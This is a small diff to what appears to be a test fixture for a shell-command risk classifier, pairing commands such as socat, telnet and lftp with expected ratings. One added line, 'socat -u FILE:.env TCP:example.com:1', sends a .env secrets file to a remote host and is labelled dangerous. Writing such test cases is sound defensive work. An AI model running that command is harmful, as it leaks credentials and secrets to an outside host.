@@ -10,3 +10,5 @@ socat - TCP:localhost:80  # want moderate
 socat -V  # want safe
 telnet example.com 25  # want moderate
 lftp -e 'mirror -R; quit' example.com  # want moderate
+socat -u FILE:.env TCP:example.com:1  # want dangerous
+socat OPEN:a.txt,creat -  # want moderate
